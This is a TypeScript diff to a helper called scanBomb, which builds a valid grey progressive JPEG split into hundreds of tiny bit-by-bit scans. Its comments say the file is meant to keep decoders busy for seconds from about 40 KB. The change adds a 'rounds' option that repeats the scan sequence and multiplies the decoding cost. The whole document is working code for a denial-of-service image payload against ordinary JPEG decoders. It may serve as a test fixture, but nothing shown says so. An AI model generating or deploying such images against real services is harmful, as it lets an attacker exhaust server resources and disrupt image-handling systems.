@@ -7,11 +7,18 @@ const HUFFMAN_TABLE = Buffer.from([0xff, 0xc4]);
 const BITS = 11;
 const COEFFICIENTS = 63;
 
+export interface ScanBombOptions {
+  width: number;
+  height: number;
+  /** How often all of it is sent: a coefficient whose bits are all there may be begun again. Once unless told. */
+  rounds?: number;
+}
+
 /**
- * A correct grey JPEG of 693 scans: each coefficient bit by bit, all zero. A scan is some 26 bytes, and makes the
- * decoder go over the whole picture again; at 4000×3000, 40 KB keep it busy for seconds.
+ * A correct grey JPEG of 693 scans a round: each coefficient bit by bit, all zero. A scan is some 26 bytes, and makes
+ * the decoder go over the whole picture again; at 4000×3000, 40 KB keep it busy for seconds.
  */
-export async function scanBomb({ width, height }: { width: number; height: number }): Promise<Buffer> {
+export async function scanBomb({ width, height, rounds = 1 }: ScanBombOptions): Promise<Buffer> {
   const grey = sharp({ create: { width, height, channels: 3, background: '#888888' } });
   const jpeg = await grey.toColourspace('b-w').jpeg({ progressive: true }).toBuffer();
   const firstScan = jpeg.indexOf(START_OF_SCAN);
@@ -22,7 +29,7 @@ export async function scanBomb({ width, height }: { width: number; height: numbe
   return Buffer.concat([
     jpeg.subarray(0, firstScanEnd),
     jpeg.subarray(lastScanTable, lastScan),
-    ...scansBitByBit(jpeg.subarray(lastScan, end)),
+    ...Array.from({ length: rounds }, () => scansBitByBit(jpeg.subarray(lastScan, end))).flat(),
     jpeg.subarray(end),
   ]);
 }
